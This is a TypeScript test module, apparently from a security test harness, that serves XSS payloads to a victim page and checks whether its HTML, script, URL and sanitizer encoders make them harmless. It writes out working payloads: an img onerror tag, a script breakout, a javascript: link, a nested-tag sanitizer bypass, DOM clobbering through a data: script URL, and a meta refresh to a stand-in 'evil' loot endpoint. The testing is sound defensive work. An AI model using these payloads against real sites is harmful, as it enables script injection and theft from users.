import type { Attack } from '../attack.js';
import { textOf, type Victim } from '../victim.js';

/** A page that puts the query into its place through the house's encoder (the bare one has none). */
const encoded = (
  id: string,
  what: string,
  render: (text: string, victim: Victim, res: Parameters<Victim['page']>[0]) => string,
  q: string,
  /** What is there instead, in the page of ours. */
  is: () => boolean,
  more: Partial<Attack> = {},
): Attack => ({
  id,
  what,
  goal: 'script',
  by: ['page: harmless'],
  serve: (victim) =>
    void victim.app.get('/show', (req, res) => victim.page(res, render(textOf(req.query['q']), victim, res))),
  async act(scene) {
    await scene.open(`${scene.names.victim}/show?q=${encodeURIComponent(q)}`);
    await scene.page.waitForSelector('#end', { state: 'attached' }).catch(() => undefined);
    if (await scene.page.evaluate(is).catch(() => false)) scene.note('harmless');
  },
  ...more,
});

const END = '<i id="end"></i>';

export const encoding: readonly Attack[] = [
  encoded(
    'text-in-html',
    'text between tags: escapeHtml()',
    (text, { house }) => `<p id="out">${house.html(text)}</p>${END}`,
    '<img src=x: onerror=pwned()>',
    () => document.querySelector('#out')?.textContent === '<img src=x: onerror=pwned()>',
    { short: true },
  ),
  encoded(
    'value-in-script',
    "a value inside the page's own script: jsonForScript()",
    (text, { house, script }, res) => script(res, `globalThis.term = ${house.json(text)}`) + END,
    '</script><script>pwned()</script>',
    () => (globalThis as unknown as { term?: string }).term === '</script><script>pwned()</script>',
  ),
  encoded(
    'link-target',
    'a link that somebody has typed in, clicked: createUrlChecker()',
    (text, { house }) => `<a id="out" href="${house.url(text)}">site</a>${END}`,
    'javascript:pwned()',
    () => {
      document.querySelector<HTMLAnchorElement>('#out')!.click();
      return document.querySelector('#out')!.getAttribute('href') === '/';
    },
  ),
  encoded(
    'nested-tags',
    'rich text whose filter makes what it removes: createHtmlSanitizer()',
    (text, { house }) => `<div id="out">${house.rich(text)}</div>${END}`,
    '<b>Hi</b><scr<script>ipt>pwned()</scr</script>ipt>',
    () => document.querySelector('#out b') !== null && document.querySelector('#out script') === null,
  ),
  encoded(
    'clobbering',
    'rich text with a name that the own script takes for its settings: createHtmlSanitizer()',
    (text, { house, script }, res) =>
      `<div id="out">${house.rich(text)}</div>${script(res, "document.body.append(Object.assign(document.createElement('script'), { src: globalThis.settings?.href ?? '/none.js' }))")}${END}`,
    '<b>Hi</b><a id="settings" href="data:text/javascript,pwned()"></a>',
    () => document.querySelector('#out b') !== null && document.querySelector('#settings') === null,
  ),
  encoded(
    'refresh',
    'rich text that leads the whole page away: createHtmlSanitizer() (no policy stops a refresh)',
    (text, { house }) => `<div id="out">${house.rich(text)}</div>${END}`,
    '',
    () => true,
    {
      goal: 'loot',
      async act(scene) {
        const q = `<b>Hi</b><meta http-equiv="refresh" content="0;url=${scene.names.evil}/loot?away">`;
        await scene.open(`${scene.names.victim}/show?q=${encodeURIComponent(q)}`);
        const clean = (): boolean =>
          document.querySelector('#out b') !== null && document.querySelector('#out meta') === null;
        await scene.insist(async () => {
          if (await scene.page.evaluate(clean).catch(() => false)) scene.note('harmless');
        });
      },
    },
  ),
];
